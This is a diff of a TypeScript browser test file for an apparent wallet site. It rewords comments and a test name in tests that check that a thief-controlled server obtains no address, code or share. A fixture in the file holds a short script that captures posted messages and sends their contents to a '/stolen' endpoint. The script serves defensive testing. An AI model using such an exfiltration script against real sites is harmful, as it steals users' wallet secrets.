@@ -3,8 +3,8 @@ import { stack } from '../browser/support/stack.ts'
 import { closeBrowser, type Visit, visit } from '../browser/support/visit.ts'
 
 /**
- * The server of the secure site is the thief's: it serves what he wants. He wants the address, the code and a share, all of
- * which go into the frame.
+ * The secure site's server belongs to a thief, who wants the address, the code and a share, all of which go into the
+ * frame.
  */
 
 afterAll(closeBrowser)
@@ -12,7 +12,7 @@ afterAll(closeBrowser)
 const REFUSED = 'Your wallet was changed on its way here and was not opened.'
 const site = stack.urls?.secureSite
 
-/** Passes on whatever it hears, and answers so that the visitor goes on to type the code. */
+/** Forwards everything it receives, and answers so that the visitor goes on to type the code. */
 const FALSE_FRAME = `<!doctype html><script>
   addEventListener('message', ({ data }) => {
     fetch('/stolen?' + encodeURIComponent(JSON.stringify(data)))
@@ -28,7 +28,7 @@ interface Served {
   readonly body: string
 }
 
-/** A visitor whom this is served to; `stolen` is what has come to the thief. */
+/** A visitor of such a server; `stolen` is everything the thief received. */
 async function visitThief({ path, ...answer }: Served): Promise<{ visitor: Visit; stolen: string[] }> {
   const stolen: string[] = []
   const headers = { 'access-control-allow-origin': '*' }
@@ -61,7 +61,7 @@ test.each<[what: string, served: Served]>([
       }),
     },
   ],
-])('a thief who serves %s is given no address, no code and no share, and the visitor is told', async (_, served) => {
+])('a thief who serves %s gets no address, no code and no share, and the visitor sees an error', async (_, served) => {
   const { visitor, stolen } = await visitThief(served)
   try {
     await visitor.open()
